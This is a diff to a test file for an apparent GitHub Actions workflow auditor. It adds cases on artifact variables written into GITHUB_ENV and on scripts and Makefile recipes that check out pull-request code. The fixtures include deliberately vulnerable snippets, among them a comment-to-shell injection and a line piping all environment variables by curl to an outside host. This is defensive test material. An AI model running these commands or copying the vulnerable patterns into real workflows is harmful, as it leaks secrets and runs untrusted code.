@@ -9,7 +9,7 @@ import pytest
 
 from auditor.domain import CodeLocation, Evidence, Outcome
 from tests.auditing import asked
-from tests.repos import Drawing
+from tests.repos import Content, Drawing
 
 TRIGGER = "workflows.dangerous_trigger"
 INJECTED = "workflows.script_injection"
@@ -167,6 +167,9 @@ CASES = [
     Case("a status that is always good", TRIGGER, STEP, 'gh api "repos/$R/statuses/$AT" -f state=success -f context=build', 'gh api "repos/$R/statuses/$AT" -f state=pending -f context=build', at_least=0.7),
     Case("a check that is always good", TRIGGER, REPORT, "await github.rest.checks.create({ ...context.repo, name: 'build', head_sha, conclusion: 'success' })", "await github.rest.checks.create({ ...context.repo, name: 'build', head_sha, conclusion: ok ? 'success' : 'failure' })", at_least=0.7),
     Case("a script of an artifact", TRIGGER, DOWNLOAD + STEP, "bash built/report.sh", "node scripts/report.js built/report.json", "\n  workflow_run: {workflows: [CI]}"),
+    Case("variables of an artifact", TRIGGER, DOWNLOAD + STEP, 'cat built/vars.env | tee -a "$GITHUB_ENV"', 'cat built/report.md | tee -a "$GITHUB_STEP_SUMMARY"', "\n  workflow_run: {workflows: [CI]}"),
+    Case("a script that fetches the proposal", TRIGGER, STEP, 'bash ./tools/preview.sh "$N"', "bash ./tools/docs.sh"),
+    Case("a recipe that fetches the proposal", TRIGGER, STEP, "make N=$N preview", "make docs"),
     Case("a package of an artifact", TRIGGER, DOWNLOAD + STEP, "cd built && npm ci", "cd built && ls", "\n  workflow_run: {workflows: [CI]}"),
     Case("an artifact without a checkout", TRIGGER, f"      - uses: actions/download-artifact\0{SHA}\n" + STEP, "python3 tools/report.py", "python3 -c 'import json'", "\n  workflow_run: {workflows: [CI]}", 0.7),
     Case("a comment in parts for a program", INJECTED, SCRIPT, "|\n            const { body: text, user } = context.payload.comment\n            const [first, ...rest] = context.payload.comment.body.split(' ')\n            await exec.exec('sh', ['-c', rest.join(' ')])", "|\n            const [first, ...rest] = context.payload.comment.body.split(' ')\n            await exec.exec('make', ['test'])"),
@@ -178,6 +181,14 @@ CASES = [
     Case("hidden files in an artifact", SECRET, WHOLE, "'**'", "dist", "push"),
     Case("all variables that are posted", SECRET, RUN, "env | curl -d @- https://example.net/c", "env | sort", "push"),
 ]  # fmt: skip
+
+
+CALLED: dict[str, Content] = {
+    "tools/preview.sh": 'gh pr checkout "$1"\nnpm ci\n',
+    "tools/docs.sh": "git fetch origin gh-pages\nnpm run docs\n",
+    "Makefile": "docs:\n\tsphinx-build docs out\n\npreview: fetched\n\tnpm ci\n\nfetched:\n\tgit fetch origin pull/$(N)/head\n\tgit checkout FETCH_HEAD\n",
+}
+"""Files of the repository that steps call."""
 
 
 def path_of(number: int, kind: str) -> str:
@@ -196,7 +207,7 @@ def found(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], lis
     """What each question finds in each workflow of one repository with all cases."""
     target: Path = tmp_path_factory.mktemp("shop")
     drawing = Drawing(target)
-    base = drawing.commit({"README.md": "# Shop\n"})
+    base = drawing.commit({"README.md": "# Shop\n", **CALLED})
     drawing.commit(
         {
             path_of(number, kind): written(case, text)
